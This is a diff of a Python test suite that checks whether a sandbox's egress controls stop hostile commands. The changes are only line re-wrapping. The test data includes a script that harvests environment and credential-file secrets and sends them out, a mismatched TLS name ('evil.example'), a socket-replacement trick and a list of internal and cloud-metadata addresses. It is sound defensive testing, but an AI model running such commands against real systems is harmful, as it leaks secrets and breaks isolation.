@@ -1,4 +1,5 @@
-"""Hostile commands with a way out, from inside a sandbox to an internet of their own: what they reach, and what not."""
+"""Hostile commands with a way out, from inside a sandbox to an internet of their own: what they
+reach, and what not."""
 
 import os
 import shutil
@@ -59,7 +60,11 @@ class Online(Attacked):
     """A worker with an internet of its own; see `fake_internet.py`."""
 
     def _command(self, place: Path, fd: int) -> list[str]:
-        internet = ["/usr/bin/python3", str(HOUSE / "tests/attacks/fake_internet.py"), str(place / "both.pem")]
+        internet = [
+            "/usr/bin/python3",
+            str(HOUSE / "tests/attacks/fake_internet.py"),
+            str(place / "both.pem"),
+        ]
         return [*internet, str(place / "internet"), *super()._command(place, fd)]
 
     def told(self) -> bytes:
@@ -139,12 +144,29 @@ def test_a_host_that_may_not_be_reached(name, online, verdict):
 
 
 INNER = [
-    *("127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "100.100.100.200"),
+    *(
+        "127.0.0.1",
+        "10.1.2.3",
+        "172.16.0.1",
+        "192.168.1.1",
+        "169.254.169.254",
+        "100.64.0.1",
+        "100.100.100.200",
+    ),
     *("0.0.0.0", "192.0.0.192", "192.168.0.10", "198.18.0.1", "240.0.0.1", "168.63.129.16"),
-    *("::1", "fd00::1", "fec0::1", "::ffff:10.1.2.3", "::127.0.0.1", "64:ff9b::10.0.0.1", "64:ff9b:1::10.0.0.1"),
+    *(
+        "::1",
+        "fd00::1",
+        "fec0::1",
+        "::ffff:10.1.2.3",
+        "::127.0.0.1",
+        "64:ff9b::10.0.0.1",
+        "64:ff9b:1::10.0.0.1",
+    ),
     "2002:a00:1::1",
 ]
-"""Addresses of machines, of their networks and of what clouds tell their machines about themselves."""
+"""Addresses of machines, of their networks and of what clouds tell their machines about
+themselves."""
 
 
 @pytest.mark.parametrize("worker", USERS[:1], indirect=True)
@@ -176,16 +198,22 @@ def test_another_name_in_the_hello_than_in_the_request(online, verdict):
     result = online.bash(script)
     assert b"reached" not in result.output
     [noted] = result.blocked
-    assert (noted.host, noted.reason) == (named(PUBLIC), "its TLS hello names another host: 'evil.example'")
+    assert (noted.host, noted.reason) == (
+        named(PUBLIC),
+        "its TLS hello names another host: 'evil.example'",
+    )
     assert "reached at" in online.unprotected(script)
     verdict("no other name", "an open proxy let it through")
 
 
 def test_the_secret_of_the_worker_does_not_go_out(online, verdict):
-    """A hostile command sends all that it can find to a host that it may reach. It does not wait for the environment of
-    a process that has no memory left to answer with: another test's bomb may run beside it."""
+    """A hostile command sends all that it can find to a host that it may reach. It does not wait
+    for the environment of a process that has no memory left to answer with: another test's bomb may
+    run beside it."""
     places = "/proc/self/environ /proc/*/environ /run/*/* /etc/* ~/.*"
-    find = f'found=$(timeout 5 cat {places} 2>/dev/null | tr "\\0" " " | grep -ao "canary[-0-9a-f]*")'
+    find = (
+        f'found=$(timeout 5 cat {places} 2>/dev/null | tr "\\0" " " | grep -ao "canary[-0-9a-f]*")'
+    )
     send = asking(f"{named(PUBLIC)}:443", "''", '"all that was found: $found"')
     script = f"{find}\n{send}"
     assert b"reached at" in online.bash(script).output
@@ -212,7 +240,7 @@ def test_more_than_may_be_sent(online, verdict):
     verdict("16 MiB in a session's life", "an open proxy took 17 MiB")
 
 
-# ── the socket ────────────────────────────────────────────────────────────────────────────────────────────────────────
+# ── the socket ────────────────────────────────────────────────────────────────────────────────────
 
 
 def sockets(online: Online) -> list[str]:
@@ -240,7 +268,8 @@ def test_no_socket_outlives_a_command(online, verdict):
 
 
 def test_the_socket_cannot_be_replaced(online, verdict):
-    """Else a hostile command would hear what the next one says, or would let it through to anywhere."""
+    """Else a hostile command would hear what the next one says, or would let it through to
+    anywhere."""
     script = """
     rm -f "$where/egress.sock"; touch "$where/x"; ln -sf /tmp/x "$where/egress.sock"
     python3 -c "import socket, sys; socket.socket(1).bind('$where/other.sock'); print('bound')"; chmod 777 "$where"
